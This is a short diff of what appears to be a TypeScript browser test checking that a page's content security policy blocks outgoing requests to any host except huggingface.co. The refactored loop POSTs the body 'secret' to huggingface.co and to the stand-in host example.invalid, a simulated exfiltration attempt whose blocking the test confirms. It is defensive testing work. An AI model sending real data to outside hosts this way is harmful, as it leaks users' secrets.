@@ -377,9 +377,9 @@ Studio("the policy forbids the page to send anything but to where models come fr
           if (blockedURI.includes("example.invalid")) resolve(undefined);
         });
       });
-      const send = (href: string) => fetch(href, { method: "POST", body: "secret" }).catch(() => {});
-      await send("https://huggingface.co/");
-      await send("https://example.invalid/");
+      for (const href of ["https://huggingface.co/", "https://example.invalid/"]) {
+        await fetch(href, { method: "POST", body: "secret" }).catch(() => {});
+      }
       await told; // the last to be told of
       return violations;
     });
